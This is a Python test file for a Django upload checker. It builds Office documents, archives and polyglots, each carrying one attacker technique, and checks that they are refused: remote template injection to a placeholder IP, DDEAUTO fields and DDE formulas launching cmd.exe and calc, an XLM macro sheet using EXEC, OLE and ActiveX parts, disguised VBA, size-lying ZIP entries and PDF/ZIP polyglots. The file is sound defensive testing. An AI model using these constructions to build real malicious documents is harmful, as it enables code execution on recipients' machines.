"""Active content in Office files, polyglots and hostile archives (issue 14, item 4).

Every sample is built here from a real document (python-docx, openpyxl) with one change an
attacker would make, and goes through inspect_upload, the check every evidence upload passes.
Each must be refused with the reason's code; the untouched documents, the app's own exports, a
hyperlink and a chart's embedded workbook must still be accepted.
"""

import io
import struct
import zipfile
import zlib

import docx
import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from core import uploads
from core.uploads import UploadRejected, inspect_upload
from tests.measures.upload_samples import PDF, png

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"


def word():
    document = docx.Document()
    document.add_paragraph("进展材料")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def workbook(formula=None):
    book = openpyxl.Workbook()
    book.active["A1"] = "指标"
    if formula:
        book.active["B1"] = formula
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def members(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def rebuild(content, *, add=None, change=None, compression=zipfile.ZIP_DEFLATED):
    """`content` with parts added and parts changed (name -> function of the old bytes)."""
    parts = members(content)
    for name, edit in (change or {}).items():
        parts[name] = edit(parts[name])
    parts.update(add or {})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def content_type(extra):
    return lambda old: old.replace(b"</Types>", extra.encode() + b"</Types>")


def relationship(kind, target, external=False, rid="rIdX"):
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{R}/{kind}" Target="{target}"{mode}/>'


def add_relationship(*entries):
    return lambda old: old.replace(b"</Relationships>", "".join(entries).encode() + b"</Relationships>")


def rels_part(*entries):
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PR}">' + "".join(entries)
    ).encode() + (b"</Relationships>")


def body(xml):
    return lambda old: old.replace(b"</w:body>", xml.encode() + b"</w:body>")


def field(code):
    """A complex field as Word writes it, its code split over two runs."""
    half = len(code) // 2
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{code[:half]}</w:instrText></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{code[half:]}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def macro_sheet(old):
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" '
        b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>'
    )


def patch_declared(content, name, data_prefix):
    """`content` whose part `name` declares only `data_prefix`'s size and CRC, in the local header
    and the directory alike: zipfile then reads just that much and finds nothing wrong."""
    raw = bytearray(content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        info = archive.getinfo(name)
        start_dir = archive.start_dir
    crc, size = zlib.crc32(data_prefix), len(data_prefix)
    struct.pack_into("<L", raw, info.header_offset + 14, crc)
    struct.pack_into("<L", raw, info.header_offset + 22, size)
    position = start_dir
    while raw[position : position + 4] == b"PK\x01\x02":
        name_len, extra_len, comment_len = struct.unpack_from("<3H", raw, position + 28)
        if raw[position + 46 : position + 46 + name_len].decode() == name:
            struct.pack_into("<L", raw, position + 16, crc)
            struct.pack_into("<L", raw, position + 24, size)
        position += 46 + name_len + extra_len + comment_len
    return bytes(raw)


def nested(depth):
    """A DOCX holding a DOCX holding … `depth` levels down."""
    inner = word()
    for _level in range(depth):
        inner = rebuild(
            word(),
            add={"word/embeddings/Microsoft_Word_Document.docx": inner},
            change={
                "[Content_Types].xml": content_type(
                    '<Default Extension="docx" ContentType="application/vnd.openxmlformats-officedocument.'
                    'wordprocessingml.document"/>'
                ),
                "word/_rels/document.xml.rels": add_relationship(
                    relationship("package", "embeddings/Microsoft_Word_Document.docx")
                ),
            },
        )
    return inner


def chart_with_workbook():
    return rebuild(
        word(),
        add={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook()},
        change={
            "[Content_Types].xml": content_type(
                '<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.'
                'spreadsheetml.sheet"/>'
            ),
            "word/_rels/document.xml.rels": add_relationship(
                relationship("package", "embeddings/Microsoft_Excel_Worksheet.xlsx")
            ),
        },
    )


REFUSED = {
    # Word
    "remote-template": (
        "docx",
        lambda: rebuild(
            word(),
            add={
                "word/_rels/settings.xml.rels": rels_part(
                    relationship("attachedTemplate", "http://198.51.100.7/t.dotm", external=True)
                )
            },
        ),
        "active_content",
    ),
    "local-template": (
        "docx",
        lambda: rebuild(
            word(),
            add={
                "word/_rels/settings.xml.rels": rels_part(
                    relationship("attachedTemplate", "file:///C:/t.dotm")
                )
            },
        ),
        "active_content",
    ),
    "unc-template": (
        "docx",
        lambda: rebuild(
            word(),
            add={
                "word/_rels/settings.xml.rels": rels_part(
                    relationship("attachedTemplate", "file://198.51.100.7/share/t.dotx", external=True)
                )
            },
        ),
        "active_content",
    ),
    "remote-frame": (
        "docx",
        lambda: rebuild(
            word(),
            add={
                "word/_rels/webSettings.xml.rels": rels_part(
                    relationship("frame", "http://198.51.100.7/x", external=True)
                )
            },
        ),
        "active_content",
    ),
    "ddeauto-field": (
        "docx",
        lambda: rebuild(
            word(),
            change={
                "word/document.xml": body(
                    field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')
                )
            },
        ),
        "active_content",
    ),
    "dde-simple-field": (
        "docx",
        lambda: rebuild(
            word(),
            change={
                "word/document.xml": body('<w:p><w:fldSimple w:instr=" DDE cmd &quot;/c calc&quot; "/></w:p>')
            },
        ),
        "active_content",
    ),
    "dde-in-footer": (
        "docx",
        lambda: rebuild(
            word(),
            add={
                "word/footer1.xml": (
                    f'<w:ftr xmlns:w="{W}">' + field(" ddeauto cmd x ") + "</w:ftr>"
                ).encode()
            },
        ),
        "active_content",
    ),
    "ole-embedding": (
        "docx",
        lambda: rebuild(
            word(),
            add={"word/embeddings/oleObject1.bin": OLE},
            change={
                "[Content_Types].xml": content_type(
                    '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
                ),
                "word/_rels/document.xml.rels": add_relationship(
                    relationship("oleObject", "embeddings/oleObject1.bin")
                ),
            },
        ),
        "active_content",
    ),
    "ole-link-external": (
        "docx",
        lambda: rebuild(
            word(),
            change={
                "word/_rels/document.xml.rels": add_relationship(
                    relationship("oleObject", "file:///C:/x.xls", external=True)
                )
            },
        ),
        "active_content",
    ),
    "activex": (
        "docx",
        lambda: rebuild(
            word(),
            add={
                "word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
            },
            change={
                "[Content_Types].xml": content_type(
                    '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
                )
            },
        ),
        "active_content",
    ),
    "activex-relationship-only": (
        "docx",
        lambda: rebuild(
            word(),
            change={
                "word/_rels/document.xml.rels": add_relationship(relationship("control", "activeX/x.xml"))
            },
        ),
        "active_content",
    ),
    "vba-renamed-part": (
        "docx",
        lambda: rebuild(word(), add={"word/media/image9.png": OLE}),
        "active_content",
    ),
    "vba-by-content-type": (
        "docx",
        lambda: rebuild(
            word(),
            add={"word/data.dat": b"x"},
            change={
                "[Content_Types].xml": content_type(
                    '<Override PartName="/word/data.dat" ContentType="application/vnd.ms-office.vbaProject"/>'
                )
            },
        ),
        "active_content",
    ),
    "vba-relationship": (
        "docx",
        lambda: rebuild(
            word(),
            change={"word/_rels/document.xml.rels": add_relationship(relationship("vbaProject", "data.dat"))},
        ),
        "active_content",
    ),
    "macro-enabled-main-part": (
        "docx",
        lambda: rebuild(
            word(),
            change={
                "[Content_Types].xml": lambda old: old.replace(
                    b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
                )
            },
        ),
        "active_content",
    ),
    # Excel
    "macro-sheet-under-worksheets": (
        "xlsx",
        lambda: rebuild(workbook(), change={"xl/worksheets/sheet1.xml": macro_sheet}),
        "active_content",
    ),
    "macro-sheet-content-type": (
        "xlsx",
        lambda: rebuild(
            workbook(),
            change={
                "[Content_Types].xml": lambda old: old.replace(
                    b"spreadsheetml.worksheet+xml", b"ms-excel.macrosheet+xml", 1
                )
            },
        ),
        "active_content",
    ),
    "macro-sheet-relationship": (
        "xlsx",
        lambda: rebuild(
            workbook(),
            change={
                "xl/_rels/workbook.xml.rels": lambda old: old.replace(b'/worksheet"', b'/xlMacrosheet"', 1)
            },
        ),
        "active_content",
    ),
    "dde-formula": ("xlsx", lambda: workbook("=cmd|' /C calc'!A0"), "active_content"),
    "dde-external-link": (
        "xlsx",
        lambda: rebuild(
            workbook(),
            add={
                "xl/externalLinks/externalLink1.xml": (
                    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                    b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
                )
            },
        ),
        "active_content",
    ),
    "linked-workbook": (
        "xlsx",
        lambda: rebuild(
            workbook(),
            change={
                "xl/_rels/workbook.xml.rels": add_relationship(
                    relationship("externalLinkPath", "file:///\\\\198.51.100.7\\s\\x.xlsx", external=True)
                )
            },
        ),
        "active_content",
    ),
    # Archives
    "nested-plain-zip": (
        "docx",
        lambda: rebuild(word(), add={"word/media/archive.zip": _zip({"a.txt": b"x"})}),
        "nested_archive",
    ),
    "nested-two-levels": ("docx", lambda: nested(2), "nested_archive"),
    "nested-gzip": (
        "docx",
        lambda: rebuild(word(), add={"word/media/x.gz": b"\x1f\x8b\x08" + b"\0" * 20}),
        "nested_archive",
    ),
    "lying-declared-size": (
        "docx",
        lambda: patch_declared(
            rebuild(word(), add={"word/media/big.bin": b"A" * 50_000}), "word/media/big.bin", b"A" * 100
        ),
        "damaged",
    ),
    "lying-declared-size-of-the-document": (
        "docx",
        lambda: patch_declared(
            rebuild(
                word(),
                change={"word/document.xml": body("<w:p><w:r><w:t>" + "字" * 20_000 + "</w:t></w:r></w:p>")},
            ),
            "word/document.xml",
            members(word())["word/document.xml"][:300],
        ),
        "damaged",
    ),
    "many-members": (
        "docx",
        lambda: rebuild(word(), add={f"word/media/m{i}.bin": b"" for i in range(uploads.MAX_ZIP_MEMBERS)}),
        "archive_bomb",
    ),
    # Polyglots
    "pdf-then-zip": ("pdf", lambda: PDF + word(), "polyglot"),
    "png-then-zip": ("png", lambda: png() + word(), "polyglot"),
    "zip-with-pdf-header-first": (
        "docx",
        lambda: _zip({"%PDF-1.7.txt": b"%PDF-1.7\n", **members(word())}, stored=True),
        "polyglot",
    ),
    "pdf-markup-past-first-kib": (
        "pdf",
        lambda: PDF + b"%" + b" " * 5000 + b"<script>alert(1)</script>",
        "bad_type",
    ),
}


def _zip(parts, stored=False):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def check(content, extension):
    return inspect_upload(uploaded_file=SimpleUploadedFile(f"材料.{extension}", content))


@pytest.mark.parametrize("sample", REFUSED)
def test_active_content_and_hostile_archives_are_refused(sample):
    extension, build, code = REFUSED[sample]
    with pytest.raises(UploadRejected) as refused:
        check(build(), extension)
    assert refused.value.code == code, refused.value.messages


def exported():
    """The app's own Word and Excel output, which officers attach as evidence."""
    from measures.exports.outcome_list import as_docx, as_xlsx

    class Period:
        name = "2026Q4"

    rows = [
        {
            "number": 1,
            "zone": "西青",
            "title": "成果",
            "type": "制度创新",
            "tasks": "1. 任务",
            "state": "已提交",
            "score": 90.0,
            "submitted": "2026-12-01",
            "description": "说明",
        }
    ]
    return as_docx(Period, rows), as_xlsx(Period, rows)


ACCEPTED = {
    "python-docx": ("docx", word),
    "openpyxl": ("xlsx", workbook),
    "formula-with-pipe-in-text": ("xlsx", lambda: workbook('=CONCATENATE("a|b", "c")')),
    "hyperlink": (
        "docx",
        lambda: rebuild(
            word(),
            change={
                "word/_rels/document.xml.rels": add_relationship(
                    relationship("hyperlink", "https://www.tj.gov.cn/", external=True)
                )
            },
        ),
    ),
    "other-field": (
        "docx",
        lambda: rebuild(word(), change={"word/document.xml": body(field(" PAGE \\* MERGEFORMAT "))}),
    ),
    "chart-workbook": ("docx", chart_with_workbook),
    # Word records the template a document was made from, on the author's disk.
    "local-dotx-template": (
        "docx",
        lambda: rebuild(
            word(),
            add={
                "word/_rels/settings.xml.rels": rels_part(
                    relationship("attachedTemplate", "file:///C:/Users/张三/公文模板.dotx", external=True)
                )
            },
        ),
    ),
    "nested-one-level": ("docx", lambda: nested(1)),
    "app-export-docx": ("docx", lambda: exported()[0]),
    "app-export-xlsx": ("xlsx", lambda: exported()[1]),
}


@pytest.mark.django_db
@pytest.mark.parametrize("sample", ACCEPTED)
def test_ordinary_office_files_are_accepted(sample):
    extension, build = ACCEPTED[sample]
    assert check(build(), extension).extension == extension
